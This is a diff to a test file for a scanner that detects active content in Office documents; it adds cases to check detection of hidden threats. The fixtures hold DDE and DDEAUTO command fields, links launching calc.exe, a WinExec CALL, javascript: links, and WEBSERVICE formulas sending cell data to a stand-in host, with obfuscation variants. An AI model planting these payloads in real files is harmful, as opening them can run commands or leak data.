@@ -64,6 +64,14 @@ def book(kind: str, part: str, content_type: str, content: bytes | str = "<x/>",
     return xlsx(rels=((kind, target),), more_types=typed(part, content_type), parts=parts, **more)
 
 
+def coded(runs: str) -> bytes:
+    """A field between whose marks these elements stand, before its result."""
+    mark = '<w:fldChar w:fldCharType="{}"/>'
+    return docx(
+        f"<w:p><w:r>{mark.format('begin')}{runs}{mark.format('separate')}<w:t>x</w:t>{mark.format('end')}</w:r></w:p>"
+    )
+
+
 def nested_field() -> str:
     mark = '<w:fldChar w:fldCharType="{}"/>'
     inner = f"{mark.format('begin')}<w:instrText>QUOTE 68 68 69</w:instrText>{mark.format('end')}"
@@ -158,6 +166,20 @@ ACTIVE_WORD = {
     "DDE without an end": lambda: docx('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'),
     "DDE outside of a field": lambda: docx("<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>"),
     "field whose name a field works out": lambda: docx(nested_field()),
+    "DDE as text in a field": lambda: coded("<w:t>DDEAUTO cmd</w:t>"),
+    "DDE as deleted text in a field": lambda: coded("<w:delText>DDEAUTO cmd</w:delText>"),
+    "DDE as a deleted code": lambda: coded("<w:delInstrText>DDEAUTO cmd</w:delInstrText>"),
+    "DDE behind a deleted code": lambda: coded("<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO cmd</w:instrText>"),
+    "DDE behind a text": lambda: coded("<w:t>PAGE </w:t><w:instrText>DDEAUTO cmd</w:instrText>"),
+    "DDE half deleted": lambda: coded("<w:instrText>DDE</w:instrText><w:delInstrText>AUTO cmd</w:delInstrText>"),
+    "DDE in code and text": lambda: coded("<w:instrText>DDEA</w:instrText><w:t>UTO cmd</w:t>"),
+    "deleted DDE outside of a field": lambda: docx("<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>"),
+    "DDE in the result of a field": lambda: docx(field(" PAGE ").replace("<w:t>x</w:t>", "<w:instrText>DDEAUTO x</w:instrText>")),
+    "link field to a program": lambda: docx(field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
+    "link field to a program behind switches": lambda: docx(field(r' HYPERLINK \\n \\o "a" \\h"C:\\a.exe" ')),
+    "link field that another works out": lambda: docx(
+        field(" HYPERLINK ").replace("</w:instrText></w:r>", f"</w:instrText></w:r>{field(' QUOTE a ')}", 1)
+    ),
     "text from elsewhere": lambda: docx(field(' INCLUDETEXT "http://vi.du/a" ')),
     "picture from elsewhere by a field": lambda: docx(field(' INCLUDEPICTURE "http://vi.du/a.png" ')),
     "linked object": lambda: docx(field(" LINK Excel.Sheet.8 a.xls ")),
@@ -184,6 +206,12 @@ ACTIVE_WORD = {
     "picture of an old drawing from elsewhere": lambda: docx('<v:imagedata src="http://vi.du/a.png"/>'),
     "link that is a script": lambda: linked("hyperlink", "javascript:alert(1)"),
     "link that starts a program": lambda: linked("hyperlink", "ms-msdt:/id"),
+    "link to a program": lambda: linked("hyperlink", "file:///C:/Windows/System32/calc.exe"),
+    "link to a program beside it": lambda: linked("hyperlink", "..\\..\\Windows\\System32\\calc.exe"),
+    "link of a drawn shape to a program": lambda: docx('<v:rect href="file:///C:/Windows/System32/calc.exe"/>'),
+    "link in a drawing that is text": lambda: held(
+        "image", "word/media/a.svg", "image/svg+xml", '<svg><a href="javascript:alert(1)"/></svg>'
+    ),
     "link to another machine": lambda: linked("hyperlink", "\\\\may-la\\a"),
     "letters merged from a database": lambda: docx(parts={"word/s.xml": "<w><mailMerge><connectString/></mailMerge></w>"}),
     "add-in from elsewhere": lambda: docx(rels=(("webextensiontaskpanes", "../a.xml"),)),
@@ -191,6 +219,73 @@ ACTIVE_WORD = {
     "script in a drawing": lambda: held("image", "word/media/a.svg", "image/svg+xml", "<svg><script>alert(1)</script></svg>"),
     "event in a drawing": lambda: held("image", "word/media/a.svg", "image/svg+xml", '<svg onload="alert(1)"/>'),
     "drawing that loads another": lambda: held("image", "word/a.svg", "image/svg+xml", '<svg><use href="http://vi.du/#a"/></svg>'),
+}  # fmt: skip
+ASKS = '_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)'
+FORMULAS = {
+    "the web after a power": f"2^{ASKS}",
+    "the web as the end of an area": f"A1:{ASKS}",
+    "the web in braces": f"{{1,2}}%{ASKS}",
+    "the web after the sign of one value": f"@{ASKS}",
+    "the web, a blank before the bracket": '_xlfn.WEBSERVICE ("http://vi.du/")',
+    "the web in a condition": f"IF(A1=1,{ASKS},2)",
+    "the web handed on as a function": '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://vi.du/"))',
+    "a picture from the web": '1^_xlfn.IMAGE("http://vi.du/a.png")',
+    "a translation": 'A1:_xlfn.TRANSLATE(A1,"vi","en")',
+    "prices of shares": '_xlfn.STOCKHISTORY("MSFT",1)',
+    "a program in the cloud": "_xlfn._xlws.PY(0,1)",
+    "data that come by themselves": 'A1%RTD("a.b",,"c")',
+    "a cube": 'CUBEVALUE("a","b")',
+    "an old macro": 'EVALUATE("A1")',
+    "a function of an add-in": "_xludf.DOCSO(A1)",
+    "a function that nobody knows": "NEWEST.THING(A1)",
+    "wide letters": "\uff37\uff25\uff22SERVICE(A1)",
+    "a hidden letter": 'WEBSERVICE\u200b("http://vi.du/")',
+    "DDE without a word before": "A1^cmd|'/c calc'!A0",
+    "DDE in quotes": "'cmd'|'/c calc'!A0",
+    "DDE as if it were a sheet": "'cmd|calc'!A0",
+    "a text without an end": '"a',
+    "a name without an end": "'a!A1",
+    "a bracket without an end": "[1!A1",
+    "a formula of Google Sheets": '__xludf.DUMMYFUNCTION("IMPORTXML(""http://vi.du/"",""//a"")")',
+}
+
+
+def cell(formula: str) -> bytes:
+    return xlsx(f'<row r="3"><c r="B3"><f>{formula}</f></c></row>')
+
+
+def sheet_with(more: str) -> bytes:
+    return replaced(sheet_parts(), sheet=f"<worksheet><sheetData/>{more}</worksheet>")
+
+
+ELSEWHERE = {
+    "a condition of a format": lambda: sheet_with(
+        f'<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>{ASKS}</formula></cfRule></conditionalFormatting>'
+    ),
+    "a threshold of a format": lambda: sheet_with(f"<cfRule><iconSet><cfvo type='formula' val='{ASKS}'/></iconSet></cfRule>"),
+    "a check of input": lambda: sheet_with(f"<dataValidation sqref='A1'><formula1>{ASKS}</formula1></dataValidation>"),
+    "the second value of a check": lambda: sheet_with(
+        f"<dataValidation><formula1>1</formula1><formula2>{ASKS}</formula2></dataValidation>"
+    ),
+    "a later check of input": lambda: sheet_with(f"<x:formula1 xmlns:x='urn:x'>\n<x:f>{ASKS}</x:f>\n</x:formula1>"),
+    "a name": lambda: xlsx(names=f'<definedNames><definedName name="a">{ASKS}</definedName></definedNames>'),
+    "a column of a table": lambda: book(
+        "table", "xl/tables/t.xml", f"{S}.table+xml",
+        f"<table><tableColumn name='a'><calculatedColumnFormula>{ASKS}</calculatedColumnFormula></tableColumn></table>",
+    ),
+    "the last row of a table": lambda: book(
+        "table", "xl/tables/t.xml", f"{S}.table+xml",
+        f"<table><tableColumn name='a'><totalsRowFormula>{ASKS}</totalsRowFormula></tableColumn></table>",
+    ),
+    "a chart": lambda: book("chart", "xl/charts/c.xml", f"{S[:-14]}.drawingml.chart+xml", f"<c><f>{ASKS}</f></c>"),
+    "a drawn text": lambda: book("drawing", "xl/d.xml", f"{S[:-14]}.drawing+xml", f"<sp textlink='{ASKS}'/>"),
+    "a field of a pivot": lambda: book(
+        "pivotCacheDefinition", "xl/p.xml", f"{S}.pivotCacheDefinition+xml", f"<a><cacheField formula='{ASKS}'/></a>"
+    ),
+    "a button of old": lambda: xlsx(
+        more_types='<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>',
+        parts={"xl/drawings/d.vml": f"<xml><x:FmlaMacro>{ASKS}</x:FmlaMacro></xml>"},
+    ),
 }  # fmt: skip
 ACTIVE_EXCEL = {
     "Excel 4 macros": lambda: book("xlMacrosheet", "xl/macrosheets/s.xml", "application/vnd.ms-excel.macrosheet+xml"),
@@ -207,6 +302,8 @@ ACTIVE_EXCEL = {
     "DDE formula": lambda: xlsx("<row><c><f>cmd|'/c calc'!A0</f></c></row>"),
     "formula that asks the web": lambda: xlsx('<row><c><f>_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)</f></c></row>'),
     "formula that loads a library": lambda: xlsx('<row><c><f>1+CALL("Kernel32","WinExec","JC")</f></c></row>'),
+    **{f"formula: {kind}": (lambda text=text: cell(text)) for kind, text in FORMULAS.items()},
+    **{f"web address asked in {kind}": make for kind, make in ELSEWHERE.items()},
     "embedded document in a workbook": lambda: book("package", "xl/embeddings/d.docx", f"{W}.document", b"PK"),
     "form with ActiveX": lambda: book("control", "xl/activeX/a.xml", "application/vnd.ms-office.activeX+xml"),
 }  # fmt: skip
@@ -220,6 +317,20 @@ EXCEL = {
         ),
         ACTIVE,
     ),
+    **{
+        f"formula that asks another workbook: {formula}": ("a.xlsx", lambda formula=formula: cell(formula), ACTIVE)
+        for formula in (
+            "SUM([1]Sheet1!A1)", "[1]!Ten", "'[1]Tháng 1'!A1", "'C:\\a\\[b.xlsx]Một'!A1", "'http://vi.du/[b.xlsx]Một'!A1",
+            "'\\\\may-la\\a\\b.xlsx'!Ten",
+        )
+    },
+    **{
+        f"formula that leads to a file: {formula}": ("a.xlsx", lambda formula=formula: cell(formula), ACTIVE)
+        for formula in (
+            'HYPERLINK("file:///C:/Windows/System32/calc.exe")', 'HYPERLINK("file:"&amp;"///C:/a.exe")', "HYPERLINK(A1)",
+        )
+    },
+    "elements within a formula": ("a.xlsx", lambda: cell("SU<x/>M(1)"), DAMAGED),
     "number that is none": ("a.xlsx", lambda: xlsx('<row r="x"><c r="1A" s="?"><v>abc</v></c></row>'), None),
     "text number out of range": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A1" t="s"><v>-7</v></c></row>'), None),
     "row of five thousand digits": ("a.xlsx", lambda: xlsx(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'), None),
